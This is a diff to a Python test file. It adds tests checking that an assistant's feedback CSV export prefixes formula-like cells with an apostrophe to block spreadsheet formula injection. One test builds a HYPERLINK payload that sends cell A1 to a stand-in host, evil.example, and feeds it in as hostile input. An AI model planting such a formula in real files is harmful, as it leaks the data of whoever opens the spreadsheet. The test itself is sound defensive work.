@@ -14,6 +14,7 @@ from pydantic import ValidationError
 from assistant.__main__ import main
 from assistant.api import create_api
 from assistant.feedback import CSV_COLUMNS, Feedback, FeedbackStore, plain
+from assistant.spreadsheet import FORMULA_START, csv_cell
 
 
 def test_rows_hold_plain_text_kind_sources_and_reason(tmp_path: Path) -> None:
@@ -80,3 +81,21 @@ def test_api_feedback_accepts_reason_kind_and_citations(bot, tmp_path: Path) -> 
     assert r.status_code == 200 and r.json()["counts"]["down"] == 1
     row = FeedbackStore(quiet.settings.feedback_path).rows()[0]
     assert (row["kind"], row["citations"], row["reason"]) == ("list", "I02 I03", "わかりにくい")
+
+
+@pytest.mark.parametrize("start", FORMULA_START)
+def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(tmp_path: Path, start: str) -> None:
+    store = FeedbackStore(tmp_path / "fb.sqlite3")
+    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"詳細")'
+    store.add(Feedback(question=text, answer=text, rating="down", kind=text[:40], reason=text))
+    out = io.StringIO(newline="")
+    store.export_csv(out)
+    row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1]
+    assert [row[i] for i in (3, 4, 5, 6)] == ["'" + text, "'" + text, "'" + text, "'" + text[:40]]
+
+
+def test_csv_cell_leaves_ordinary_text_and_numbers_alone() -> None:
+    assert [csv_cell(v) for v in ("かなパスの担当は？", " =1", "a=b", 17, None, b"I35", "", "—")] == [
+        "かなパスの担当は？", " =1", "a=b", "17", "", "I35", "", "—"]
+    assert [csv_cell(v) for v in ("=1", "+1", "-1", "@A1", "\t1", "\r1", -5)] == [
+        "'=1", "'+1", "'-1", "'@A1", "'\t1", "'\r1", "'-5"]
